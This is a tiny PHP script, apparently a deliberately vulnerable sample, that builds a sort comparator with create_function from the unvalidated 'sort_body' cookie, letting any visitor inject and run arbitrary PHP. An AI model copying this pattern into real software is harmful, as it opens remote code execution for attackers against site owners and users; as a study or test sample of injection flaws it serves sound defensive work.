<?php
class Sorter
{
    public static function build($body)
    {
        return create_function('$a, $b', $body);
    }
}

$cmp = Sorter::build($_COOKIE['sort_body']);
$rows = [3, 1, 2];
usort($rows, $cmp);
print_r($rows);
